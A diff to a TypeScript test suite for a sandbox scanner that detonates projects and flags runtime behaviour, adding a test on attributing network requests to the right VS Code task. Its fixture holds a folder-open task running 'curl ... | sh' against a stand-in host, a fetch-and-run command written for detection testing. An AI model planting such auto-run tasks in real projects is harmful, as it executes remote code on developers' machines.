@@ -7,7 +7,7 @@
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -114,6 +114,35 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.location.file, '.vscode/tasks.json');
     assert.ok(ruleHits(r, 'runtime/process-spawn').length > 0);
     assert.equal(r.verdict, 'block');
+  });
+
+  it('open: a request is attributed to the task that made it, not to the first task of the phase', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'airlock-two-tasks-'));
+    try {
+      mkdirSync(join(dir, '.vscode'));
+      writeFileSync(
+        join(dir, '.vscode', 'tasks.json'),
+        [
+          '{',
+          '  "version": "2.0.0",',
+          '  "tasks": [',
+          '    { "label": "greet", "type": "shell", "command": "echo hello", "runOptions": { "runOn": "folderOpen" } },',
+          '    { "label": "fetch", "type": "shell", "command": "curl -s http://second.example.invalid/x.sh | sh", "runOptions": { "runOn": "folderOpen" } }',
+          '  ]',
+          '}',
+          '',
+        ].join('\n'),
+      );
+      const r = await detonate(dir, { ...base, phases: ['open'] });
+      const egress = ruleHits(r, 'runtime/network-egress');
+      assert.equal(egress.length, 1);
+      assert.equal(egress[0]?.severity, 'critical');
+      assert.deepEqual(egress[0].location, { file: '.vscode/tasks.json', line: 5 });
+      const http = kinds(r, 'http').find(b => b.detail?.['host'] === 'second.example.invalid');
+      assert.equal(http?.detail?.['step'], 'fetch');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 
   it('install: a postinstall that reads the fake SSH key and posts it is caught twice; the original tree is untouched', async () => {
